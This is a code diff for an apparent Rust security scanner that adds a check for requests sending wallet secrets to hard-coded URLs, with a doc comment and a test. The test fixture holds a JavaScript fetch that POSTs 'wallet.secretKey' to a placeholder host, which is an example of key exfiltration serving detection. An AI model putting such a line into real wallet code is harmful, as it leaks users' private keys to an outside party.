@@ -454,17 +454,56 @@ fn secret_argument(call: &Call) -> Option<String> {
     found
 }
 
-fn posts_to_literal_url(file: &FileFacts) -> Option<&Call> {
-    file.calls.iter().find(|call| {
-        signals::is_network_call(call)
-            && call.args.first().and_then(Value::as_str).is_some_and(|url| {
-                let url = url.to_ascii_lowercase();
-                (url.starts_with("https://") || url.starts_with("http://"))
-                    && !["://localhost", "://127.", "://[::1]", "://0.0.0.0"]
-                        .iter()
-                        .any(|l| url.contains(l))
-            })
+fn is_literal_remote_url(call: &Call) -> bool {
+    call.args.first().and_then(Value::as_str).is_some_and(|url| {
+        let url = url.to_ascii_lowercase();
+        (url.starts_with("https://") || url.starts_with("http://"))
+            && !["://localhost", "://127.", "://[::1]", "://0.0.0.0"]
+                .iter()
+                .any(|l| url.contains(l))
     })
+}
+
+fn posts_to_literal_url(file: &FileFacts) -> Option<&Call> {
+    file.calls
+        .iter()
+        .find(|call| signals::is_network_call(call) && is_literal_remote_url(call))
+}
+
+/// A request to a hard-coded URL whose own arguments carry a wallet secret:
+/// `fetch('https://…', { body: JSON.stringify({ key: wallet.secretKey }) })`.
+fn secret_in_request(file: &FileFacts) -> Option<(&Call, String)> {
+    file.calls.iter().find_map(|call| {
+        if !signals::is_network_call(call) || !is_literal_remote_url(call) {
+            return None;
+        }
+        if call.args.iter().any(|arg| matches!(arg, Value::Function)) {
+            return None;
+        }
+        let (_, arguments) = call.excerpt.split_once('(')?;
+        let secret = arguments
+            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+            .find(|word| is_secret_name(word))?;
+        Some((call, secret.to_string()))
+    })
+}
+
+fn report_secret_in_request(file: &FileFacts, out: &mut Vec<Finding>) {
+    if let Some((call, secret)) = secret_in_request(file) {
+        let url = call.args.first().and_then(Value::as_str).unwrap_or("");
+        out.push(finding(
+            &INFO,
+            file,
+            call.line,
+            Severity::High,
+            Confidence::Medium,
+            format!(
+                "Sends wallet secret `{secret}` to a hard-coded address ({}): private keys and seed phrases never need to leave the machine.",
+                palisade_core::bounded_excerpt(url, 80)
+            ),
+            &call.excerpt,
+        ));
+    }
 }
 
 fn check_key_exfiltration(file: &FileFacts, out: &mut Vec<Finding>) {
@@ -485,9 +524,13 @@ fn check_key_exfiltration(file: &FileFacts, out: &mut Vec<Finding>) {
         }
     }
     if sites.is_empty() {
+        report_secret_in_request(file, out);
         return;
     }
-    let Some(sink) = posts_to_literal_url(file) else { return };
+    let Some(sink) = posts_to_literal_url(file) else {
+        report_secret_in_request(file, out);
+        return;
+    };
     let (name, call, secret) = &sites[0];
     let same_callee = sites.iter().filter(|(other, _, _)| other == name).count();
     let (severity, confidence) = if same_callee >= 2 {
@@ -600,6 +643,16 @@ class Pair {
 "#;
         let findings = run(source);
         assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
+    }
+
+    #[test]
+    fn flags_secret_in_a_request() {
+        let source = r#"
+export async function backup(wallet) {
+  await fetch('https://wallet-sync.example.invalid/api/backup', { method: 'POST', body: JSON.stringify({ k: wallet.secretKey }) });
+}
+"#;
+        assert_eq!(worst(&run(source)), Some(Severity::High));
     }
 
     #[test]
